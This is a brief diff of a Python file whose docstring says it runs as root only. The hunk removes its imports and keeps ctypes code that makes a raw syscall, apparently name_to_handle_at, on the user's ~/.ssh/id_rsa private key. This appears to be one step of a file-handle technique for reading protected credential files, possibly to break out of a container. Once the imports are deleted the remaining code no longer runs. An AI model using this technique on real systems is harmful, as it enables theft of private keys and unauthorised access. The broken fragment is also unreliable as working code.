@@ -3,13 +3,6 @@
 Root only: it takes its rights.
 """
 
-import ctypes
-import os
-import struct
-from pathlib import Path
-
-from stage import at, call
-
 handle = ctypes.create_string_buffer(struct.pack("Ii", 128, 0) + bytes(128))
 mount = ctypes.c_int()
 call(303, 264, -100, os.fsencode(Path(at.home, ".ssh/id_rsa")), handle, ctypes.byref(mount), 0)
